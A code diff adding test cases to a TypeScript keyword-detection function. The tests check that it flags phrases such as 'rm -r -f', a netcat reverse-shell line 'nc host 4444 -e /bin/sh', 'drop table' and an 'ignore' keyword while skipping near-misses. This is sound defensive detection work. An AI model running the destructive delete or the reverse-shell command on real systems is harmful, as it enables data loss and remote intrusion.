@@ -105,6 +105,10 @@ test("a word stands alone, and a set needs all its words in one record", () => {
     assert.deepEqual(marks([word], text), [0], text);
   assert.deepEqual(marks([word], '{"a":"x\\ndrop table"}', "backslash"), [0]);
   for (const text of ["raindrops", "dropped", "drop2"]) assert.deepEqual(marks([word], text), [], text);
+  assert.deepEqual(marks([{ word: "rm" }], "then rm -r -f it"), [0]);
+  assert.deepEqual(marks([{ word: "rm" }], "a firm grip; rmdir"), []);
+  assert.deepEqual(marks([{ all: [{ word: "nc" }, "/bin/sh"] }], "nc host 4444 -e /bin/sh"), [0]);
+  assert.deepEqual(marks([{ all: [{ word: "nc" }, "/bin/sh"] }], "sync host 4444 -e /bin/sh"), []);
   const set: Anchor = { all: ["drop", "table", "忽略"] };
   assert.deepEqual(marks([set], "a table, 忽略, then drop"), [0]);
   assert.deepEqual(marks([set], "a table, then drop"), []);
